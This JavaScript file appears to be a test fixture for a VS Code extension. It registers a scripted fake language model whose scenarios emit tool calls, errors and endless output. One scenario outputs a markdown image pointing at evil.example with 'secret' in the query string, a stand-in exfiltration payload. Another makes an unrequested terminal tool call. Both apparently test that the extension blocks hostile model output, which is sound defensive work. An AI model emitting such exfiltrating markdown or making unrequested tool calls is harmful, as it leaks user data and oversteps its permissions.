/**
 * A language model that does what the question says: "scenario <name>" chooses one of the scripts below. What it was told
 * is kept for the tests.
 */
const vscode = require("vscode");

const text = (value) => new vscode.LanguageModelTextPart(value);
const call = (name, input) => new vscode.LanguageModelToolCallPart(`call-${name}`, name, input);
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

/** What was said to the model, request by request, and how requests have ended. */
const log = { requests: [], cancelled: 0, sent: 0 };

const scripts = {
  tools: (results) =>
    results.length === 0
      ? [text("I look at the findings first.\n\n"), call("pipewright_check", { rules: ["unbounded-catchup"] })]
      : [
          text("Catching up would start a burst of runs [p1], and dags/config/nowhere.yml:77 is invented.\n\n"),
          text("![pixel](https://evil.example/?q=secret) [more](https://evil.example)\n"),
        ],
  unknown: (results) =>
    results.length === 0
      ? [
          call("run_in_terminal", { command: "touch /tmp/pipewright-was-here" }),
          call("pipewright_apply", { operation: "fix", input: {} }),
        ]
      : [text("Both were refused.\n")],
  malformed: (results) =>
    results.length === 0 ? [call("pipewright_lineage", { subject: 7 })] : [text("The field was wrong.\n")],
  quota: () => {
    throw new Error("You have exceeded your quota.");
  },
};

async function answer(scenario, results, progress, token) {
  if (scenario === "long" || scenario === "slow") {
    for (let line = 1; line <= 5000 && !token.isCancellationRequested; line++) {
      progress.report(text(`Line ${line} of an answer without end.\n`));
      log.sent = line;
      await pause(scenario === "slow" ? 50 : 0);
    }
    if (token.isCancellationRequested) log.cancelled++;
    return;
  }
  for (const part of scripts[scenario]?.(results) ?? [text(`There is no scenario ${scenario}.\n`)])
    progress.report(part);
}

exports.activate = (context) => {
  const model = {
    id: "scripted-1",
    name: "Scripted",
    family: "scripted",
    version: "1",
    maxInputTokens: 16000,
    maxOutputTokens: 4000,
    capabilities: { toolCalling: true },
  };
  context.subscriptions.push(
    vscode.lm.registerLanguageModelChatProvider("scripted", {
      provideLanguageModelChatInformation: () => [model],
      provideTokenCount: async (_model, value) =>
        Math.ceil((typeof value === "string" ? value : JSON.stringify(value.content)).length / 4),
      provideLanguageModelChatResponse: async (_model, messages, options, progress, token) => {
        const parts = messages.flatMap(({ content }) => content);
        const said = parts.map((part) => part.value ?? part.content?.map((inner) => inner.value).join("") ?? "");
        const asked = said.filter((value) => typeof value === "string").join("\n");
        log.requests.push({ text: asked, tools: (options.tools ?? []).map(({ name }) => name) });
        const scenario = [...asked.matchAll(/scenario (\w+)/g)].at(-1)?.[1];
        const results = parts.filter((part) => part instanceof vscode.LanguageModelToolResultPart);
        await answer(scenario, results, progress, token);
      },
    }),
  );
  void vscode.lm.selectChatModels({ vendor: "scripted" });
  return log;
};
